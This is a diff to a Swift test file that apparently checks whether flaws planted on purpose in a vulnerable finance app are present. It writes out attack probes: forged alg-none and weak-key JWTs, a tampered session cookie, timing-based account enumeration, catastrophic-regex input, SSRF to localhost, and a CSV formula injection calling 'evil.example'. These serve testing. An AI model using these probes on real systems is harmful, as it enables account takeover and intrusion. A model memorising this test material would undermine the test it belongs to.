@@ -1,3 +1,7 @@
+// Reason for length: one sign per flaw, in the order of the flaws.
+
+import Crypto
+import Foundation
 import NIOSSL
 import Testing
 
@@ -17,7 +21,8 @@ enum FlawSign {
         let needsLimit = [.noRateLimit, .silentRateLimit, .trustsForwardedFor].contains(flaw)
         var configuration = DeskConfiguration()
         configuration.flaws = isOn ? FlawSelection([flaw]) : .none
-        configuration.bcryptCost = 4
+        // A time that shows needs a hash that takes some.
+        configuration.bcryptCost = flaw == .timingEnumeration ? 12 : 4
         configuration.requestsPerMinute = needsLimit ? 10 : 0
         if flaw == .frozenMetrics { configuration.operationsListen = .init(port: 0) }
         if needsTLS { configuration.tlsListen = .init(port: 0) }
@@ -314,6 +319,92 @@ enum FlawSign {
                 _ = try await alice.post(
                     "/api/portfolios/1/deposits", ["amount": "1.00", "memo": "=HYPERLINK(\"http://evil.example\")"])
                 return try await alice.get("/api/portfolios/1/transactions.csv").text.contains("\"=HYPERLINK")
+            }
+        default: access(flaw)
+        }
+    }
+}
+
+extension FlawSign {
+    fileprivate static func access(_ flaw: Flaw) -> (@Sendable (DeskClient, RunningDesk) async throws -> Bool)? {
+        switch flaw {
+        case .forgottenGuard:
+            { client, _ in try await client.get("/api/instruments/ALBA/prices").status == 200 }
+        case .foreignWrites:
+            { client, _ in
+                let alice = try await client.signedIn("alice")
+                let reply = try await client.signedIn("bob").post(
+                    "/api/portfolios/1", ["name": "Mine"], method: "PATCH")
+                let name = try await alice.get("/api/portfolios/1").json?["name"]?.string
+                return reply.status == 404 && name == "Mine"
+            }
+        case .alteredSession:
+            { client, _ in
+                let reply = try await client.post(
+                    "/api/session", ["email": "alice@example.test", "password": "correct horse battery alice"])
+                let cookie = reply.header("Set-Cookie")?.prefix { $0 != ";" } ?? ""
+                return try await client.get("/api/session", ["Cookie": "\(cookie.dropLast(4))0000"]).status == 200
+            }
+        case .hiddenMethod: { client, _ in try await client.send("PUT", "/api/notes").status == 200 }
+        case .timingEnumeration:
+            { client, _ in
+                let clock = ContinuousClock()
+                func took(_ email: JSONValue) async throws -> Duration {
+                    try await clock.measure {
+                        _ = try await client.post(
+                            "/api/session", ["email": email, "password": "not the right password"])
+                    }
+                }
+                let known = min(try await took("bob@example.test"), try await took("bob@example.test"))
+                // A busy machine makes anything slow: one quick answer shows that nothing was hashed.
+                for _ in 0..<9 where try await took("nobody@example.test") * 2 < known { return true }
+                return false
+            }
+        case .slowInput:
+            { client, _ in
+                let alice = try await client.signedIn("alice")
+                let clock = ContinuousClock()
+                let brackets = String(repeating: "(", count: 50)
+                let slow = try await clock.measure { _ = try await alice.get("/api/search?q=\(brackets)") }
+                return slow >= .milliseconds(2_400)
+            }
+        case .fetchesAnyURL:
+            { client, desk in
+                let alice = try await client.signedIn("alice")
+                let url = "http://127.0.0.1:\(desk.port)/health/live"
+                return try await alice.post("/api/previews", ["url": .string(url)]).status == 202
+            }
+        case .jwtAlgNone:
+            { client, _ in
+                let head = "eyJhbGciOiJub25lIn0"  // {"alg":"none"}
+                let body = "eyJzdWIiOiIxIiwiaWF0IjowLCJleHAiOjk5OTk5OTk5OTl9"  // account 1, until 2286
+                return try await client.get("/api/profile", ["Authorization": "Bearer \(head).\(body)."]).status == 200
+            }
+        case .jwtWeakKey:
+            { client, _ in
+                let head = "eyJhbGciOiJIUzI1NiJ9"
+                let body = "eyJzdWIiOiIxIiwiaWF0IjowLCJleHAiOjk5OTk5OTk5OTl9"
+                let code = HMAC<SHA256>.authenticationCode(
+                    for: Data("\(head).\(body)".utf8), using: SymmetricKey(data: Data("secret".utf8)))
+                let signature = Data(code).base64EncodedString().replacing("+", with: "-").replacing("/", with: "_")
+                    .replacing("=", with: "")
+                return try await client.get(
+                    "/api/profile", ["Authorization": "Bearer \(head).\(body).\(signature)"]
+                ).status == 200
+            }
+        case .jwtUncheckedExpiry:
+            { client, _ in
+                let reply = try await client.post(
+                    "/api/token",
+                    ["email": "alice@example.test", "password": "correct horse battery alice", "expiresIn": 1])
+                let token = reply.json?["token"]?.string ?? ""
+                let isGood = try await client.get("/api/profile", ["Authorization": "Bearer \(token)"]).status == 200
+                for _ in 0..<30 {
+                    try await Task.sleep(for: .milliseconds(100))
+                    let reply = try await client.get("/api/profile", ["Authorization": "Bearer \(token)"])
+                    if reply.status == 401 { return false }
+                }
+                return isGood
             }
         default: nil
         }
